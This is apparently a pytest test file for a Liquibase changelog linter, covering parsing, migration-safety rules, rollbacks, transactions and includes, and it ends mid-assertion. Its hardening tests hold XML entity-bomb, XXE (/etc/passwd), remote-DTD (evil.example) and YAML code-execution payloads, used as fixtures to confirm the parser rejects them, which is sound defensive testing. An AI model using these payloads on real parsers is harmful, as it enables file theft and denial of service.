"""Liquibase changelogs: what `migration-lsp check` and the editor report for them.

Changelogs are written as Liquibase users write them (XML with the documented header, YAML,
JSON, formatted SQL), parsed with the real parsers and checked with the real engine; ranges are
asserted on the text the user sees underlined.
"""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest

from migration_lsp.cli import main
from migration_lsp.model import (
    CreateIndex,
    CreateTable,
    DataChange,
    ExecuteSQL,
    Step,
)
from migration_lsp.parse import TOOL_PARSERS, parse_migration
from migration_lsp.parse.liquibase import includes, parse_liquibase
from migration_lsp.project.detect import detect_projects
from test_liquibase_helpers import (
    FORMATS,
    XML_FOOTER,
    XML_HEADER,
    Change,
    changeset,
    check,
    findings,
    parse,
    rules,
    write,
)

FIXTURE = Path(__file__).parent / "fixtures" / "liquibase"
CHANGELOG = FIXTURE / "db" / "changelog"

USERS_EMAIL_INDEX = (
    "createIndex",
    {"indexName": "ix_users_email", "tableName": "users", "columns": [{"name": "email"}]},
)


def xml(body: str) -> str:
    return XML_HEADER + body + XML_FOOTER


def formatted(body: str) -> str:
    return "--liquibase formatted sql\n\n" + body


# --------------------------------------------------------------------------- parsing


def test_registered_for_the_liquibase_tool_and_its_sql_files() -> None:
    assert TOOL_PARSERS["liquibase"] == "migration_lsp.parse.liquibase:parse_liquibase"
    text = formatted("--changeset alice:1\nCREATE INDEX ix ON users (email);\n")
    migration = parse_migration("db/changelog/1.sql", text, "liquibase", "postgresql")
    assert migration is not None and migration.tool == "liquibase"
    assert [c.label for c in migration.changesets] == ["changeSet 1 (alice)"]


@pytest.mark.parametrize("fmt", FORMATS)
def test_one_changeset_per_changeset_with_its_operations(fmt: str) -> None:
    text = write(
        fmt,
        changeset(
            "1",
            "alice",
            (
                "createTable",
                {
                    "tableName": "accounts",
                    "columns": [
                        {
                            "name": "id",
                            "type": "BIGINT",
                            "autoIncrement": True,
                            "constraints": {"primaryKey": True, "nullable": False},
                        },
                        {
                            "name": "owner_id",
                            "type": "bigint",
                            "constraints": {"nullable": False, "references": "users(id)"},
                        },
                    ],
                },
            ),
            context="dev",
            labels="v2",
        ),
        changeset("2", "bob", USERS_EMAIL_INDEX, rollback=[]),
    )
    migration = parse(text, fmt)
    assert migration.problems == []
    first, second = migration.changesets
    assert (first.label, first.identity, first.rollback) == (
        "changeSet 1 (alice)",
        ("1", "alice"),
        None,
    )
    assert second.label == "changeSet 2 (bob)" and second.rollback is not None
    table = first.operations[0]
    assert isinstance(table, CreateTable) and table.table == "accounts"
    ident, owner = table.columns
    assert (ident.type, ident.primary_key, ident.nullable, ident.identity) == (
        "bigint",
        True,
        False,
        True,
    )
    assert (owner.nullable, owner.references) == (False, "users")
    index = second.operations[0]
    assert isinstance(index, CreateIndex) and index.columns == ["email"] and not index.concurrently
    assert all(op.in_transaction and op.step is Step.UP for op in migration.operations)
    assert not migration.supports_down and migration.language == fmt


@pytest.mark.parametrize("fmt", FORMATS)
def test_rollback_changes_are_the_down_step(fmt: str) -> None:
    text = write(
        fmt,
        changeset(
            "1",
            "alice",
            ("addColumn", {"tableName": "users", "columns": [{"name": "nick", "type": "text"}]}),
            rollback=[("dropColumn", {"tableName": "users", "columnName": "nick"})],
        ),
    )
    migration = parse(text, fmt)
    assert [(type(op).__name__, op.step) for op in migration.operations] == [
        ("AddColumn", Step.UP),
        ("DropColumn", Step.DOWN),
    ]
    assert rules(text, fmt) == []  # the rollback's drop is not judged as a forward step


# --------------------------------------------------------------------------- rules per format


WHOLE = "<the whole change>"

CHANGES_AND_FINDINGS: list[tuple[Change, list[tuple[str, str]]]] = [
    (USERS_EMAIL_INDEX, [("non-concurrent-index", "createIndex")]),
    (
        ("dropIndex", {"indexName": "ix_users_email", "tableName": "users"}),
        [("non-concurrent-index-drop", "dropIndex")],
    ),
    (("dropColumn", {"tableName": "users", "columnName": "legacy"}), [("drop-column", "legacy")]),
    (("dropTable", {"tableName": "legacy_users"}), [("drop-table", "legacy_users")]),
    (
        ("renameColumn", {"tableName": "users", "oldColumnName": "name", "newColumnName": "title"}),
        [("rename-column", "name")],
    ),
    (
        ("renameTable", {"oldTableName": "users", "newTableName": "accounts"}),
        [("rename-table", "users")],
    ),
    (
        ("modifyDataType", {"tableName": "users", "columnName": "age", "newDataType": "bigint"}),
        [("change-column-type", "bigint")],
    ),
    (
        (
            "addNotNullConstraint",
            {"tableName": "users", "columnName": "email", "columnDataType": "text"},
        ),
        [("set-not-null-on-existing-column", "email")],
    ),
    (
        (
            "addColumn",
            {
                "tableName": "users",
                "columns": [{"name": "tier", "type": "text", "constraints": {"nullable": False}}],
            },
        ),
        [("add-not-null-column-without-default", "tier")],
    ),
    (
        (
            "addColumn",
            {
                "tableName": "users",
                "columns": [
                    {"name": "token", "type": "uuid", "defaultValueComputed": "gen_random_uuid()"}
                ],
            },
        ),
        [("add-column-volatile-default", "gen_random_uuid()")],
    ),
    (
        (
            "addForeignKeyConstraint",
            {
                "baseTableName": "orders",
                "baseColumnNames": "user_id",
                "constraintName": "fk_orders_user",
                "referencedTableName": "users",
                "referencedColumnNames": "id",
            },
        ),
        [("foreign-key-without-not-valid", "fk_orders_user")],
    ),
    (
        (
            "addUniqueConstraint",
            {"tableName": "users", "columnNames": "email", "constraintName": "uq_users_email"},
        ),
        [("unique-constraint-without-index", "uq_users_email")],
    ),
    (
        ("update", {"tableName": "users", "columns": [{"name": "tier", "value": "basic"}]}),
        [("unbatched-data-update", WHOLE)],
    ),
    (
        ("delete", {"tableName": "sessions", "where": "expires_at IS NULL"}),
        [("unbatched-data-update", WHOLE)],
    ),
    (
        ("dropNotNullConstraint", {"tableName": "users", "columnName": "email"}),
        [("drop-not-null", "email")],
    ),
]


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize(("change", "expected"), CHANGES_AND_FINDINGS, ids=lambda v: str(v)[:40])
def test_rule_fires_on_the_change_in_every_format(
    fmt: str, change: Change, expected: list[tuple[str, str]]
) -> None:
    text = write(fmt, changeset("7", "alice", change, rollback=[]))
    found = findings(text, fmt, ignore=["missing-lock-timeout", "foreign-key-without-index"])
    whole = text[text.index(change[0]) - (fmt != "yaml") :]  # from `<` / `"`, or the key
    assert [
        (rule, WHOLE if len(under) > 30 and whole.startswith(under) else under)
        for rule, under in found
    ] == expected


SAFE_CHANGES: list[Change] = [
    (
        "addForeignKeyConstraint",
        {
            "baseTableName": "orders",
            "baseColumnNames": "user_id",
            "constraintName": "fk_orders_user",
            "referencedTableName": "users",
            "referencedColumnNames": "id",
            "validate": False,
        },
    ),
    ("addColumn", {"tableName": "users", "columns": [{"name": "nick", "type": "text"}]}),
    (
        "addColumn",
        {
            "tableName": "users",
            "columns": [
                {
                    "name": "tier",
                    "type": "text",
                    "defaultValue": "basic",
                    "constraints": {"nullable": False},
                }
            ],
        },
    ),
    (
        "update",
        {
            "tableName": "users",
            "columns": [{"name": "tier", "value": "basic"}],
            "where": "id < 1000",
        },
    ),
    ("createView", {"viewName": "active_users", "selectQuery": "SELECT * FROM users"}),
]


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("change", SAFE_CHANGES, ids=lambda v: str(v)[:40])
def test_safe_changes_stay_quiet_in_every_format(fmt: str, change: Change) -> None:
    text = write(fmt, changeset("7", "alice", change, rollback=[]))
    assert rules(text, fmt, ignore=["missing-lock-timeout", "foreign-key-without-index"]) == []


@pytest.mark.parametrize("fmt", FORMATS)
def test_changes_on_a_table_created_in_the_same_changelog_are_exempt(fmt: str) -> None:
    text = write(
        fmt,
        changeset(
            "1",
            "alice",
            ("createTable", {"tableName": "users", "columns": [{"name": "id", "type": "bigint"}]}),
        ),
        changeset("2", "alice", USERS_EMAIL_INDEX),
        changeset(
            "3", "alice", ("addNotNullConstraint", {"tableName": "users", "columnName": "id"})
        ),
    )
    assert rules(text, fmt) == []


def test_xml_positions_are_attribute_values_and_tag_names() -> None:
    text = xml(
        """
    <changeSet id="4" author="alice">
        <dropColumn tableName="users" columnName="legacy_code"/>
        <createIndex indexName="ix_users_email" tableName="users"><column name="a"/></createIndex>
    </changeSet>
"""
    )
    found = {f.rule: f for f in check(text, "xml", ignore=["missing-lock-timeout"])}
    drop = found["drop-column"]
    assert text[drop.span.start : drop.span.end] == "legacy_code"
    assert drop.start == (
        text[: drop.span.start].count("\n"),
        text.split("\n")[drop.start[0]].index("legacy_code"),
    )
    index = found["non-concurrent-index"]
    line = text.split("\n")[index.start[0]]
    assert index.start[1] == line.index("createIndex") and index.end[1] == index.start[1] + len(
        "createIndex"
    )


def test_sql_inside_xml_is_placed_on_its_exact_characters() -> None:
    text = xml(
        """
    <changeSet id="5" author="alice">
        <sql splitStatements="true">UPDATE users SET score = 0 WHERE score &lt; 0;
            CREATE INDEX ix_users_score ON users (score);</sql>
        <sql><![CDATA[
            DELETE FROM sessions WHERE created_at < now() - interval '30 days';
            CREATE INDEX ix_sessions_user ON sessions (user_id);
        ]]></sql>
    </changeSet>
"""
    )
    found = findings(text, "xml", ignore=["missing-lock-timeout", "changeset-without-rollback"])
    assert found == [
        ("mixed-schema-and-data-change", "UPDATE users SET score = 0 WHERE score &lt; 0"),
        ("non-concurrent-index", "CREATE INDEX"),
        ("non-concurrent-index", "CREATE INDEX"),
    ]
    spans = [f.span for f in check(text, "xml") if f.rule == "non-concurrent-index"]
    assert spans[0].start < text.index("CDATA") < spans[1].start


def test_sql_inside_yaml_block_and_json_string_is_placed_exactly() -> None:
    yaml_text = """databaseChangeLog:
  - changeSet:
      id: 6
      author: bob
      changes:
        - sql:
            sql: |
              SET lock_timeout = '5s';
              CREATE INDEX ix_orders_created ON orders (created_at);
"""
    assert findings(yaml_text, "yaml", ignore=["changeset-without-rollback"]) == [
        ("non-concurrent-index", "CREATE INDEX")
    ]
    json_text = (
        '{"databaseChangeLog": [{"changeSet": {"id": "6", "author": "bob", "changes": [\n'
        '  {"sql": {"sql": "SET lock_timeout = \'5s\';\\nCREATE INDEX ix_a ON orders (a)"}}]}}]}\n'
    )
    assert findings(json_text, "json", ignore=["changeset-without-rollback"]) == [
        ("non-concurrent-index", "CREATE INDEX")
    ]


def test_formatted_sql_changesets() -> None:
    text = formatted(
        """--changeset alice:3 runInTransaction:false context:dev labels:v3
--comment: add the email index
CREATE INDEX CONCURRENTLY IF NOT EXISTS ix_users_email ON users (email);
--rollback DROP INDEX CONCURRENTLY IF EXISTS ix_users_email;

--changeset bob:4
ALTER TABLE users DROP COLUMN legacy_code;
"""
    )
    migration = parse(text, "sql")
    assert migration.problems == []
    first, second = migration.changesets
    assert (first.label, first.identity) == ("changeSet 3 (alice)", ("3", "alice"))
    assert text[first.span.start : first.span.end].startswith("--changeset alice:3")
    assert first.rollback is not None and text[first.rollback.start :].startswith("--rollback DROP")
    assert second.rollback is None
    index = next(op for op in first.operations if isinstance(op, CreateIndex))
    assert index.concurrently and not index.in_transaction
    down = [op for op in migration.operations if op.step is Step.DOWN]
    assert [type(op).__name__ for op in down] == ["DropIndex"]
    assert findings(text, "sql", ignore=["missing-lock-timeout"]) == [
        ("changeset-without-rollback", "--changeset bob:4"),
        ("drop-column", "legacy_code"),
    ]


def test_formatted_sql_quirks() -> None:
    text = formatted(
        """--changeset "carol":"5" splitStatements:false
--ignoreLines:start
this is not SQL
--ignoreLines:end
UPDATE users SET name = '${default_name}' WHERE id = ${admin_id};
--rollback not required
"""
    )
    migration = parse(text, "sql")
    assert migration.problems == []
    assert migration.changesets[0].identity == ("5", "carol")
    assert rules(text, "sql") == []


def test_plain_sql_files_and_a_missing_header() -> None:
    plain = "CREATE INDEX ix_users_email ON users (email);\n"
    assert rules(plain, "sql") == ["non-concurrent-index"]
    assert parse(plain, "sql").changesets == []
    headless = "--changeset alice:1\nCREATE TABLE t (id int);\n"
    found = check(headless, "sql")
    assert [f.rule for f in found] == ["migration-parse-error"]
    assert "--liquibase formatted sql" in found[0].message


# ------------------------------------------------------------------- changeset-without-rollback


NOT_DERIVABLE: list[Change] = [
    ("dropColumn", {"tableName": "users", "columnName": "legacy"}),
    ("dropTable", {"tableName": "legacy"}),
    ("modifyDataType", {"tableName": "users", "columnName": "age", "newDataType": "bigint"}),
    ("sql", {"sql": "UPDATE users SET tier = 'basic' WHERE tier IS NULL"}),
    ("sqlFile", {"path": "sql/backfill.sql", "relativeToChangelogFile": True}),
    ("update", {"tableName": "users", "columns": [{"name": "tier", "value": "basic"}]}),
    ("delete", {"tableName": "users", "where": "id = 1"}),
    ("insert", {"tableName": "users", "columns": [{"name": "email", "value": "a@example.com"}]}),
    ("loadData", {"tableName": "countries", "file": "data/countries.csv"}),
    ("dropIndex", {"tableName": "users", "indexName": "ix_users_email"}),
    ("dropForeignKeyConstraint", {"baseTableName": "orders", "constraintName": "fk_orders_user"}),
    ("dropDefaultValue", {"tableName": "users", "columnName": "tier"}),
    ("customChange", {"class": "com.example.Backfill"}),
]
DERIVABLE: list[Change] = [
    ("createTable", {"tableName": "t", "columns": [{"name": "id", "type": "bigint"}]}),
    ("addColumn", {"tableName": "users", "columns": [{"name": "nick", "type": "text"}]}),
    USERS_EMAIL_INDEX,
    ("renameColumn", {"tableName": "users", "oldColumnName": "a", "newColumnName": "b"}),
    ("renameTable", {"oldTableName": "a", "newTableName": "b"}),
    (
        "addForeignKeyConstraint",
        {
            "baseTableName": "o",
            "baseColumnNames": "u",
            "constraintName": "fk",
            "referencedTableName": "u",
            "referencedColumnNames": "id",
        },
    ),
    ("addUniqueConstraint", {"tableName": "users", "columnNames": "email", "constraintName": "uq"}),
    ("addPrimaryKey", {"tableName": "t", "columnNames": "id", "constraintName": "pk_t"}),
    (
        "addNotNullConstraint",
        {"tableName": "users", "columnName": "email", "columnDataType": "text"},
    ),
    (
        "dropNotNullConstraint",
        {"tableName": "users", "columnName": "email", "columnDataType": "text"},
    ),
    ("addDefaultValue", {"tableName": "users", "columnName": "tier", "defaultValue": "basic"}),
    ("createView", {"viewName": "v", "selectQuery": "SELECT 1"}),
    ("createSequence", {"sequenceName": "s"}),
    ("tagDatabase", {"tag": "v1.0"}),
]


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("change", NOT_DERIVABLE, ids=lambda c: c[0])
def test_changeset_without_rollback_fires_on_changes_liquibase_cannot_invert(
    fmt: str, change: Change
) -> None:
    text = write(fmt, changeset("8", "dave", change))
    found = [f for f in check(text, fmt) if f.rule == "changeset-without-rollback"]
    assert len(found) == 1
    assert found[0].message.startswith(
        f"changeSet 8 (dave) has no rollback, and Liquibase cannot derive one for `{change[0]}`"
    )
    head = text[found[0].span.start : found[0].span.end]
    assert head in ('<changeSet id="8" author="dave">', "changeSet")
    # a written rollback, even an empty one, answers it
    assert "changeset-without-rollback" not in rules(
        write(fmt, changeset("8", "dave", change, rollback=[])), fmt
    )


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("change", DERIVABLE, ids=lambda c: c[0])
def test_changeset_without_rollback_stays_quiet_on_auto_reversible_changes(
    fmt: str, change: Change
) -> None:
    text = write(fmt, changeset("9", "erin", change))
    assert "changeset-without-rollback" not in rules(text, fmt)


def test_changeset_without_rollback_names_every_blocking_change_once() -> None:
    text = write(
        "xml",
        changeset(
            "10",
            "frank",
            ("dropColumn", {"tableName": "users", "columnName": "a"}),
            ("dropColumn", {"tableName": "users", "columnName": "b"}),
            ("sql", {"sql": "UPDATE users SET c = 1 WHERE c IS NULL; DELETE FROM t WHERE x = 1"}),
            ("addColumn", {"tableName": "users", "columns": [{"name": "d", "type": "text"}]}),
        ),
    )
    message = next(f.message for f in check(text, "xml") if f.rule == "changeset-without-rollback")
    assert "for `dropColumn`, `sql`:" in message


def test_changeset_without_rollback_in_formatted_sql() -> None:
    create = formatted("--changeset alice:1\nCREATE TABLE t (id bigint PRIMARY KEY);\n")
    assert findings(create, "sql") == [("changeset-without-rollback", "--changeset alice:1")]
    assert "`raw SQL`" in check(create, "sql")[0].message
    for rollback in ("--rollback DROP TABLE t;", "--rollback empty", "--rollback not required"):
        assert rules(create + rollback + "\n", "sql") == []
    block = create + "/* liquibase rollback\nDROP TABLE t;\n*/\n"
    assert rules(block, "sql") == []


def test_ignored_and_other_database_changesets_are_skipped() -> None:
    text = xml(
        """
    <changeSet id="11" author="gina" ignore="true">
        <dropTable tableName="a"/>
    </changeSet>
    <changeSet id="12" author="gina" dbms="mysql,mariadb">
        <dropTable tableName="b"/>
    </changeSet>
    <changeSet id="13" author="gina" dbms="!mysql">
        <dropTable tableName="c"/>
        <rollback><sql dbms="mysql">CREATE TABLE c (id int)</sql></rollback>
    </changeSet>
"""
    )
    assert findings(text, "xml") == [("drop-table", "c")]
    assert findings(text, "xml", dialect="mysql") == [
        ("changeset-without-rollback", '<changeSet id="12" author="gina" dbms="mysql,mariadb">'),
        ("drop-table", "b"),
    ]


# --------------------------------------------------------------------------- transactions


@pytest.mark.parametrize("fmt", FORMATS)
def test_run_in_transaction(fmt: str) -> None:
    sql = ("sql", {"sql": "CREATE INDEX CONCURRENTLY ix_users_email ON users (email)"})
    inside = write(fmt, changeset("14", "hank", sql, rollback=[]))
    assert findings(inside, fmt) == [("concurrent-index-in-transaction", "CONCURRENTLY")]
    assert 'runInTransaction="false"' in check(inside, fmt)[0].message
    outside = write(fmt, changeset("14", "hank", sql, rollback=[], runInTransaction=False))
    assert rules(outside, fmt) == []
    migration = parse(outside, fmt)
    assert migration.operations and not any(op.in_transaction for op in migration.operations)


def test_split_statements_false_sends_one_implicit_transaction() -> None:
    body = (
        "CREATE INDEX CONCURRENTLY ix_a ON users (a);\nCREATE INDEX CONCURRENTLY ix_b ON users (b);"
    )
    split = xml(
        f"""
    <changeSet id="15" author="ivy" runInTransaction="false">
        <sql>{body}</sql>
        <rollback/>
    </changeSet>
"""
    )
    assert rules(split, "xml") == []
    together = split.replace("<sql>", '<sql splitStatements="false">')
    assert rules(together, "xml") == ["concurrent-index-in-transaction"] * 2


def test_formatted_sql_transactions() -> None:
    text = formatted(
        "--changeset ivy:16\nCREATE INDEX CONCURRENTLY ix_a ON users (a);\n--rollback empty\n"
    )
    assert findings(text, "sql") == [("concurrent-index-in-transaction", "CONCURRENTLY")]
    outside = text.replace("ivy:16", "ivy:16 runInTransaction:false")
    assert rules(outside, "sql") == []


def test_each_changeset_is_its_own_transaction() -> None:
    text = write(
        "xml",
        changeset(
            "17",
            "jay",
            (
                "addForeignKeyConstraint",
                {
                    "baseTableName": "orders",
                    "baseColumnNames": "user_id",
                    "constraintName": "fk_orders_user",
                    "referencedTableName": "users",
                    "referencedColumnNames": "id",
                    "validate": False,
                },
            ),
        ),
        changeset(
            "18",
            "jay",
            ("sql", {"sql": "ALTER TABLE orders VALIDATE CONSTRAINT fk_orders_user"}),
            rollback=[],
        ),
        changeset(
            "19", "jay", ("dropColumn", {"tableName": "users", "columnName": "a"}), rollback=[]
        ),
        changeset(
            "20",
            "jay",
            (
                "update",
                {
                    "tableName": "users",
                    "columns": [{"name": "b", "value": "1"}],
                    "where": "id < 10",
                },
            ),
            rollback=[],
        ),
    )
    found = rules(
        text, "xml", quiet=(), ignore=["missing-lock-timeout", "foreign-key-without-index"]
    )
    assert found == [
        "drop-column"
    ]  # no "validated in the same transaction", no mixed, no lock held on
    together = write(
        "xml",
        changeset(
            "21",
            "jay",
            ("dropColumn", {"tableName": "users", "columnName": "a"}),
            (
                "update",
                {
                    "tableName": "users",
                    "columns": [{"name": "b", "value": "1"}],
                    "where": "id < 10",
                },
            ),
            rollback=[],
        ),
    )
    assert set(rules(together, "xml", quiet=(), ignore=["missing-lock-timeout"])) == {
        "drop-column",
        "mixed-schema-and-data-change",
        "statements-after-access-exclusive",
    }


# --------------------------------------------------------------------------- ignore comments


def test_ignore_comments_in_every_format() -> None:
    text = xml(
        """
    <changeSet id="22" author="kim">
        <!-- migration-lsp: ignore[non-concurrent-index] -->
        <createIndex indexName="ix_users_email" tableName="users">
            <column name="email"/>
        </createIndex>
    </changeSet>
"""
    )
    assert rules(text, "xml") == []
    yaml_text = """databaseChangeLog:
  - changeSet:
      id: 23
      author: kim
      changes:
        # migration-lsp: ignore[drop-column]
        - dropColumn:
            tableName: users
            columnName: legacy
      rollback: []
"""
    assert rules(yaml_text, "yaml") == []
    sql = formatted(
        "--changeset kim:24\n-- migration-lsp: ignore[drop-table]\n"
        "DROP TABLE legacy;\n--rollback empty\n"
    )
    assert rules(sql, "sql") == []


# --------------------------------------------------------------------------- includes


def test_includes_of_every_format() -> None:
    master = (CHANGELOG / "db.changelog-master.xml").read_text()
    found = [(i.path, i.relative, i.directory) for i in includes("master.xml", master)]
    assert found == [
        ("db/changelog/changes/001-create-customers.xml", False, False),
        ("changes/002-create-orders.yaml", True, False),
        ("changes/003-create-products.json", True, False),
        ("changes/004-order-reporting.sql", True, False),
        ("unsafe/", True, True),
    ]
    yaml_master = (
        "databaseChangeLog:\n  - include:\n      file: a.yaml\n"
        "  - includeAll:\n      path: sql/\n      relativeToChangelogFile: true\n"
    )
    assert [(i.path, i.relative, i.directory) for i in includes("m.yaml", yaml_master)] == [
        ("a.yaml", False, False),
        ("sql/", True, True),
    ]
    json_master = '{"databaseChangeLog": [{"include": {"file": "b.json"}}]}'
    assert [i.path for i in includes("m.json", json_master)] == ["b.json"]


def test_detection_follows_includes_from_a_master_at_the_root(tmp_path: Path) -> None:
    (tmp_path / "liquibase.properties").write_text(
        "changelog-file=changelog.yaml\nurl=jdbc:postgresql://localhost:5432/app\n"
    )
    (tmp_path / "changelog.yaml").write_text(
        "databaseChangeLog:\n"
        "  - include:\n      file: schema/tables.xml\n"
        "  - includeAll:\n      path: data/\n"
    )
    (tmp_path / "schema").mkdir()
    (tmp_path / "schema" / "tables.xml").write_text(
        xml('\n    <include file="views/all.sql" relativeToChangelogFile="true"/>\n')
    )
    (tmp_path / "schema" / "views").mkdir()
    (tmp_path / "schema" / "views" / "all.sql").write_text(
        formatted("--changeset a:1\nSELECT 1;\n")
    )
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "1.sql").write_text("SELECT 1;\n")
    (tmp_path / "node_modules").mkdir()
    (tmp_path / "node_modules" / "x.xml").write_text("<x/>")
    project = next(p for p in detect_projects(tmp_path) if p.tool == "liquibase")
    assert project.dialect == "postgresql"
    assert sorted(p.relative_to(tmp_path).as_posix() for p in project.migration_dirs) == [
        "data",
        "schema",
        "schema/views",
    ]
    names = sorted(p.relative_to(tmp_path).as_posix() for p in project.migration_files())
    assert names == ["changelog.yaml", "data/1.sql", "schema/tables.xml", "schema/views/all.sql"]


# --------------------------------------------------------------------------- hardening


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<databaseChangeLog xmlns="http://www.liquibase.org/xml/ns/dbchangelog">
    <changeSet id="1" author="mallory">
        <sql>&lol9;</sql>
    </changeSet>
</databaseChangeLog>
"""

EXTERNAL_ENTITY = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE databaseChangeLog [
  <!ENTITY secret SYSTEM "file:///etc/passwd">
]>
<databaseChangeLog xmlns="http://www.liquibase.org/xml/ns/dbchangelog">
    <changeSet id="1" author="mallory">
        <sql>INSERT INTO leaks (body) VALUES ('&secret;')</sql>
    </changeSet>
</databaseChangeLog>
"""


def test_billion_laughs_is_a_parse_problem_never_expanded() -> None:
    started = time.perf_counter()
    found = check(BILLION_LAUGHS, "xml")
    assert time.perf_counter() - started < 2
    assert [f.rule for f in found] == ["migration-parse-error"]
    assert found[0].message.startswith('entity declarations are not allowed: `<!ENTITY lol "lol">`')
    assert BILLION_LAUGHS[found[0].span.start : found[0].span.end] == '<!ENTITY lol "lol">'
    assert parse(BILLION_LAUGHS, "xml").operations == []


def test_external_entities_are_never_read() -> None:
    migration = parse(EXTERNAL_ENTITY, "xml")
    assert migration.operations == [] and len(migration.problems) == 1
    assert "entity declarations are not allowed" in migration.problems[0].message
    assert "SYSTEM" in migration.problems[0].message
    assert "root:" not in repr(migration)


def test_undeclared_entities_and_parameter_entities_are_refused() -> None:
    reference = xml(
        '\n    <changeSet id="1" author="m">\n'
        "        <sql>SELECT &custom;</sql>\n    </changeSet>\n"
    )
    problem = parse(reference, "xml").problems[0]
    assert problem.message.startswith("entity declarations are not allowed: `&custom;`")
    assert reference[problem.span.start : problem.span.end] == "&custom;"
    parameter = (
        '<?xml version="1.0"?>\n<!DOCTYPE x [\n'
        '  <!ENTITY % ext SYSTEM "http://evil.example/x.dtd">\n  %ext;\n]>\n<databaseChangeLog/>\n'
    )
    assert "entity declarations are not allowed" in parse(parameter, "xml").problems[0].message


def test_predefined_and_numeric_references_are_decoded() -> None:
    text = xml(
        '\n    <changeSet id="1" author="m">\n'
        "        <sql>UPDATE t SET a = &apos;x&amp;y&apos;, b = &#39;&#x41;&#39;"
        " WHERE c &gt; 1 AND d &lt;&gt; 2</sql>\n"
        "    </changeSet>\n"
    )
    migration = parse(text, "xml")
    assert migration.problems == []
    execute = next(op for op in migration.operations if isinstance(op, ExecuteSQL))
    assert execute.sql == "UPDATE t SET a = 'x&y', b = 'A' WHERE c > 1 AND d <> 2"
    change = next(op for op in migration.operations if isinstance(op, DataChange))
    assert text[change.span.start : change.span.end].endswith("d &lt;&gt; 2")


def test_yaml_is_composed_safely() -> None:
    bomb = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join('*' + chr(97 + i) for _ in range(10))}]\n"
        for i in range(8)
    )
    bomb += "databaseChangeLog:\n  - changeSet:\n      id: 1\n      author: m\n      changes: *i\n"
    started = time.perf_counter()
    found = check(bomb, "yaml")
    assert time.perf_counter() - started < 2
    assert [f.rule for f in found] == ["migration-parse-error"] and "alias" in found[0].message
    marker = Path("/tmp/migration-lsp-liquibase-yaml-tag")
    marker.unlink(missing_ok=True)
    tagged = (
        "databaseChangeLog:\n  - changeSet:\n      id: !!python/object/apply:os.system "
        f'["touch {marker}"]\n      author: m\n      changes: []\n'
    )
    parse(tagged, "yaml")
    assert not marker.exists()


# --------------------------------------------------------------------------- bad input


def test_syntax_errors_are_one_parse_error_at_the_right_place() -> None:
    half = xml(
        """
    <changeSet id="25" author="lee">
        <createIndex tableName="users"
    </changeSet>
"""
    )
    found = check(half, "xml")
    assert [f.rule for f in found] == ["migration-parse-error"]
    assert half[found[0].span.start : found[0].span.end] == "createIndex"
    assert "not ended" in found[0].message
    mismatched = xml(
        '\n    <changeSet id="26" author="lee">\n'
        '        <dropTable tableName="a">\n    </changeSet>\n'
    )
    message = check(mismatched, "xml")[0].message
    assert "`</changeSet>` does not close `<dropTable>`" in message
    assert (
        "is never closed"
        in check(xml("\n    <changeSet id='1' author='a'>\n")[: -len(XML_FOOTER)], "xml")[0].message
    )
    assert "YAML syntax error" in check("databaseChangeLog:\n  - changeSet: [\n", "yaml")[0].message
    json_error = check('{"databaseChangeLog": [ {"changeSet": {"id": 1,}} ]}', "json")[0]
    assert json_error.rule == "migration-parse-error" and "JSON syntax error" in json_error.message
    assert "`//` comments" in check('{"databaseChangeLog": [] // no\n}', "json")[0].message
    assert rules('# a comment\n{"databaseChangeLog": []}', "json") == []


FIXTURE_FILES = sorted(p for p in CHANGELOG.rglob("*") if p.is_file())


@pytest.mark.parametrize("path", FIXTURE_FILES, ids=lambda p: p.name)
def test_truncated_files_never_crash(path: Path) -> None:
    text = path.read_text()
    for end in range(0, len(text), 7):
        prefix = text[:end]
        migration = parse_liquibase(str(path), prefix, "postgresql")
        found = check(prefix, migration.language) if migration.problems else []
        if migration.problems:
            assert [f.rule for f in found] == ["migration-parse-error"]


def test_other_xml_files_are_not_changelogs() -> None:
    assert (
        parse(
            '<?xml version="1.0"?>\n<project><modelVersion>4.0.0</modelVersion></project>\n', "xml"
        ).operations
        == []
    )
    for fmt in ("xml", "yaml", "json", "sql"):
        empty = parse("\n", fmt)  # a file just created in the changelog folder
        assert (empty.problems, empty.operations) == ([], [])


# --------------------------------------------------------------------------- the check CLI


def test_check_on_the_fixture_project(capsys: pytest.CaptureFixture[str]) -> None:
    code = main(["check", str(FIXTURE), "--format", "json"])
    report = json.loads(capsys.readouterr().out)
    assert code == 1
    found = {
        (Path(f["path"]).resolve().relative_to(CHANGELOG).as_posix(), f["rule"]) for f in report
    }
    safe = {
        "db.changelog-master.xml",
        "changes/001-create-customers.xml",
        "changes/002-create-orders.yaml",
        "changes/003-create-products.json",
        "changes/004-order-reporting.sql",
    }
    assert not {path for path, _ in found} & safe
    assert {
        ("unsafe/101-index-orders-status.xml", "non-concurrent-index"),
